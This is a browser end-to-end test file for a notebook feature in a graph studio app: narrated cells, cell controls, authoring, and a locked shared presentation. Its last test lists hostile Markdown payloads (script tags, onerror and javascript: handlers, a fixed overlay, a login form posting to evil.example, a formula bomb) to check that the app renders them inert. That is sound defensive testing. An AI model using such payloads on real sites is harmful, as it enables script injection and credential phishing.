/**
 * The notebook in chromium: a student steps through the narrated example (each cell frames its
 * nodes and shows its preview), a control in a cell is the node's param (undo restores it),
 * authors add and edit cells, a shared notebook opens as a locked presentation whose controls
 * stay live, and hostile Markdown in a shared file does nothing.
 */
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { node, openStudio, shot, studioSession } from './harness.ts';
import { encodeShare } from '../../src/ui/state/share.ts';

const session = studioSession();

interface StudioHandle {
  studio: {
    selected: string[];
    cellIndex: number;
    presenting: boolean;
    readOnly: boolean;
    editor: { doc: { nodes: { id: string; params: Record<string, unknown> }[]; ui: { cells?: { id: string; nodes?: string[] }[] } } };
  };
}
const studioState = (page: Page) =>
  page.evaluate(() => {
    const s = (window as unknown as { __studio: StudioHandle }).__studio.studio;
    return { selected: [...s.selected].sort(), cellIndex: s.cellIndex, presenting: s.presenting, readOnly: s.readOnly, cells: s.editor.doc.ui.cells ?? [], params: Object.fromEntries(s.editor.doc.nodes.map((n) => [n.id, n.params])) };
  });
const cells = (page: Page) => page.getByTestId('cell');
const current = (page: Page) => page.locator('[data-testid="cell"].current');

/** Whether the node's card lies inside the visible canvas. */
async function onScreen(page: Page, id: string): Promise<boolean> {
  const c = (await page.getByTestId('canvas').boundingBox())!;
  const b = await node(page, id).boundingBox();
  return !!b && b.x >= c.x - 1 && b.y >= c.y - 1 && b.x + b.width <= c.x + c.width + 1 && b.y + Math.min(b.height, 120) <= c.y + c.height + 1;
}

describe('the notebook', () => {
  it('walks a student through the narrated example: each cell frames its nodes and shows its preview', async () => {
    const { page, context, errors } = await openStudio(session.browser, session.url, { query: '?example=how-mononphm-works' });
    await expect.poll(() => cells(page).count()).toBe(12);
    expect(await page.getByTestId('cell-position').innerText()).toBe('1 / 12');
    const doc = await studioState(page);
    expect(doc.presenting).toBe(false);
    // Formulas are typeset and node links marked.
    expect(await page.locator('[data-testid="cell"] .katex').count()).toBeGreaterThan(10);
    await page.getByTestId('canvas').click({ position: { x: 5, y: 5 } });
    for (let i = 0; i < doc.cells.length; i++) {
      // The studio opens fitted to the whole graph; the first cell frames its nodes once chosen.
      if (i === 0) await current(page).getByTestId('cell-go').click();
      else await page.keyboard.press('PageDown');
      await expect.poll(() => studioState(page).then((s) => s.cellIndex)).toBe(i);
      const want = [...(doc.cells[i]!.nodes ?? [])].sort();
      await expect.poll(() => studioState(page).then((s) => s.selected)).toEqual(want);
      for (const id of want) await expect.poll(() => onScreen(page, id), { message: `cell ${i + 1}: ${id} framed` }).toBe(true);
      expect(await current(page).getAttribute('data-cell')).toBe(doc.cells[i]!.id);
      // The cell's preview is the node's own (computed by the auto-run; the optimisation on request).
      const preview = current(page).getByTestId('cell-preview');
      if (await preview.count()) {
        const id = (await preview.getAttribute('data-node'))!;
        if (id === 'step' || id === 'overlay') await expect.poll(() => current(page).getByTestId('cell-run').count()).toBe(1);
        else await expect.poll(() => preview.getByTestId('preview').count(), { timeout: 240_000, message: `preview of ${id}` }).toBe(1);
        if (id === 'anchors') {
          // The anchors in 3-D: drawn by the shared three.js renderer (points and the lines joining them).
          expect(await preview.getByTestId('preview').getAttribute('data-kind')).toBe('points');
          const lit = () => preview.locator('canvas').evaluate((c) => {
            const cv = c as HTMLCanvasElement;
            const d = cv.getContext('2d')!.getImageData(0, 0, cv.width, cv.height).data;
            let n = 0;
            for (let i = 0; i < d.length; i += 4) if (d[i]! > 120 && d[i + 1]! > 100) n++;
            return n;
          });
          await expect.poll(lit).toBeGreaterThan(100);
        }
      }
      await shot(page, `notebook-${String(i + 1).padStart(2, '0')}-${doc.cells[i]!.id}`);
    }
    // PageUp goes back; the last cell stays the last.
    await page.keyboard.press('PageDown');
    expect((await studioState(page)).cellIndex).toBe(doc.cells.length - 1);
    await page.keyboard.press('PageUp');
    await expect.poll(() => studioState(page).then((s) => s.cellIndex)).toBe(doc.cells.length - 2);
    // A yellow node link frames its node.
    await page.locator('[data-testid="cell"][data-cell="intro"]').getByTestId('cell-go').click();
    await page.locator('[data-testid="cell"][data-cell="intro"] a[data-node="model"]').click();
    await expect.poll(() => studioState(page).then((s) => s.selected)).toEqual(['model']);
    expect(errors).toEqual([]);
    await context.close();
  }, 900_000);

  it('a control in a cell edits the node\'s param (the same undoable edit as the inspector); authors add and edit cells', async () => {
    const { page, context, errors } = await openStudio(session.browser, session.url, { query: '?example=how-mononphm-works' });
    await expect.poll(() => cells(page).count()).toBe(12);
    await page.getByTestId('autorun').uncheck();
    await page.locator('[data-testid="cell"][data-cell="codes"]').getByTestId('cell-go').click();
    const spread = current(page).locator('[data-testid="cell-control"][data-param="spread"] input[type="number"]');
    await spread.fill('0');
    await spread.press('Enter');
    await expect.poll(() => studioState(page).then((s) => s.params.codes!.spread)).toBe(0);
    // The inspector shows the same param changed.
    await node(page, 'codes').getByTestId('title').click();
    expect(await page.getByTestId('inspector').getByTestId('param-spread').locator('input[type="number"]').inputValue()).toBe('0');
    await page.getByTestId('undo').click();
    await expect.poll(() => studioState(page).then((s) => s.params.codes!.spread)).toBe(1);
    expect(await spread.inputValue()).toBe('1');

    // Authoring: a new cell after the current one, linked to the selected node, then edited.
    await page.locator('[data-testid="cell"][data-cell="anchors"]').getByTestId('cell-go').click();
    await expect.poll(() => onScreen(page, 'anchors')).toBe(true);
    await node(page, 'anchors').getByTestId('title').click();
    await expect.poll(() => studioState(page).then((s) => s.selected)).toEqual(['anchors']);
    await page.getByTestId('cell-add').click();
    await expect.poll(() => cells(page).count()).toBe(13);
    const added = (await studioState(page)).cells[3]!;
    expect(added.nodes).toEqual(['anchors']);
    await page.getByTestId('cell-editor').fill('## My note\n\nThe anchors move with $z_{exp}$.');
    await page.getByTestId('cell-save').click();
    await expect.poll(() => current(page).locator('h2').innerText()).toBe('My note');
    expect(await current(page).locator('.katex').count()).toBe(1);
    await page.getByTestId('undo').click();
    await page.getByTestId('undo').click();
    await expect.poll(() => cells(page).count()).toBe(12);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('opens a shared notebook as a presentation: graph and cells locked, the cells\' controls live with undo', async () => {
    const first = await openStudio(session.browser, session.url, { query: '?example=how-mononphm-works' });
    await expect.poll(() => cells(first.page).count()).toBe(12);
    const link = await first.page.evaluate(() => (window as unknown as { __studio: { studio: { shareLink(): string | undefined } } }).__studio.studio.shareLink());
    await first.context.close();
    expect(link, 'the narrated example fits in a share link').toBeDefined();

    const { page, context, errors } = await openStudio(session.browser, session.url, { hash: link!.slice(link!.indexOf('#')) });
    await expect.poll(() => studioState(page).then((s) => s.presenting && s.readOnly)).toBe(true);
    await expect.poll(() => page.locator('[data-testid="notebook"].presenting').count()).toBe(1);
    // One cell at a time, no authoring tools, the graph's editing buttons off.
    expect(await cells(page).count()).toBe(1);
    expect(await page.getByTestId('cell-tools').count()).toBe(0);
    expect(await page.getByTestId('add-node').isDisabled()).toBe(true);
    await page.getByTestId('canvas').click({ position: { x: 5, y: 5 } });
    await page.keyboard.press('ArrowRight');
    await expect.poll(() => studioState(page).then((s) => s.cellIndex)).toBe(1);
    await shot(page, 'notebook-presentation');
    // Deleting the framed node is refused.
    const before = (await studioState(page)).params;
    await page.keyboard.press('Delete');
    expect(Object.keys((await studioState(page)).params).sort()).toEqual(Object.keys(before).sort());
    // The cell's control is live, and undo restores it.
    const seed = current(page).locator('[data-testid="cell-control"][data-param="seed"] input[type="number"]');
    await seed.fill('11');
    await seed.press('Enter');
    await expect.poll(() => studioState(page).then((s) => s.params.codes!.seed)).toBe(11);
    await expect.poll(() => page.getByTestId('undo').isEnabled()).toBe(true);
    await page.getByTestId('undo').click();
    await expect.poll(() => studioState(page).then((s) => s.params.codes!.seed)).toBe(7);
    // A param no cell exposes stays locked.
    await page.evaluate(() => (window as unknown as { __studio: { studio: { view: { select(ids: string[]): void } } } }).__studio.studio.view.select(['camera']));
    await expect.poll(() => page.getByTestId('inspector').getByTestId('param-width').count()).toBe(1);
    expect(await page.getByTestId('inspector').getByTestId('param-width').locator('input[type="number"]').isDisabled()).toBe(true);
    // …while one a cell exposes is editable in the inspector too (camera.yaw, in the render cell).
    expect(await page.getByTestId('inspector').getByTestId('param-yaw').locator('input[type="number"]').isDisabled()).toBe(false);
    await page.keyboard.press('ArrowLeft');
    await expect.poll(() => studioState(page).then((s) => s.cellIndex)).toBe(0);
    expect(errors).toEqual([]);
    await context.close();
  });

  it('renders hostile Markdown from a shared file inert', async () => {
    const hostile = [
      '<script>window.__pwned = 1</script>',
      '<img src=x onerror="window.__pwned = 2">',
      '[click me](javascript:window.__pwned=3)',
      '<iframe src="javascript:window.parent.__pwned=4"></iframe>',
      '<div style="position:fixed;inset:0;background:red;z-index:9999" onmouseover="window.__pwned=5">cover</div>',
      '<form action="https://evil.example"><input name="pw"><button>Log in</button></form>',
      `$${'\\frac{1}{'.repeat(600)}x${'}'.repeat(600)}$`,
    ].join('\n\n');
    const graph = {
      format: 'nphm-studio/graph',
      schemaVersion: 3,
      id: 'hostile-notebook',
      nodes: [{ id: 'n', type: 'core.number', params: { value: 2 } }],
      edges: [],
      ui: { nodes: { n: { x: 0, y: 0 } }, comments: [], cells: [{ id: 'evil', text: hostile, nodes: ['n'] }] },
    };
    const { page, context, errors } = await openStudio(session.browser, session.url, { hash: `#${encodeShare(JSON.stringify(graph))}` });
    const dialogs: string[] = [];
    page.on('dialog', (d) => void (dialogs.push(d.message()), d.dismiss()));
    await expect.poll(() => cells(page).count()).toBe(1);
    const cell = cells(page).first();
    await cell.hover();
    await cell.getByText('click me').click();
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await cell.locator('script, iframe, form, input, [onerror], [onmouseover], [style*="fixed"]').count()).toBe(0);
    expect(await cell.locator('.formula-too-long').count()).toBe(1);
    expect(dialogs).toEqual([]);
    expect(page.url()).not.toMatch(/javascript:/);
    expect(errors).toEqual([]);
    await context.close();
  });
});
